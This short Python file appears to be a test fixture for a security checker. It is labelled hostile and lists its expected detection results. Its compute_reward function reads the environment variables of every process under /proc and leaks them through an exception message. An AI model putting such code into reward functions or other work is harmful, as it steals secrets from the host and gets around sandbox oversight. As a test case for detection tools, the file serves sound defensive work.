# ruff: noqa
"""Hostile: read other processes' environments from /proc.

expect: static
expect-unchecked: runtime
"""
import os

import numpy as np


def compute_reward(state, action, next_state):
    loot = []
    for pid in ["1", "self", str(os.getppid())] + os.listdir("/proc"):
        try:
            loot.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
        except OSError:
            pass
    raise ValueError("PROC ENV " + " | ".join(loot))
